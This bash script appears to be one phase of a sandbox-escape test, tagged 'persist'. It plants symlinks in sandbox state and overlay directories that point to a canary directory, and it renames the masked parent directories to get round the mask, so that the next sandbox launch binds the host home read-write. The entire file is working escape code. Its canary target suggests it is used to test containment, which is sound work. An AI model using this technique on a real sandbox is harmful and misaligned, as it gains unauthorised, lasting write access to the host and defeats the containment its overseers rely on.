#!/usr/bin/env bash
# state directories kept inside the project: rename their parent, put a symlink to the host home in their place; the next launch binds the host home read-write
# class: persist
. "${0%/*}/common.sh"
need CANARY_DIR
tool mv mkdir ln rm
plant(){ for id in ${STATE_IDS:-0123456789abcdef}; do for base in .devenv/sandbox/state .devenv/sandbox/overlay .devenv/sbx/state .sbx/state; do
  { mkdir -p "$base" && rm -rf "$base/$id" && ln -s "$CANARY_DIR" "$base/$id"; } 2>/dev/null; done; done; }
plant                                                                           # directly, where the directory itself is writable
for top in .devenv .sbx; do mv "$top" "$top.sbx-old" 2>/dev/null; done; plant   # or by renaming the parent from under its mask
echo "PHASE1: done"
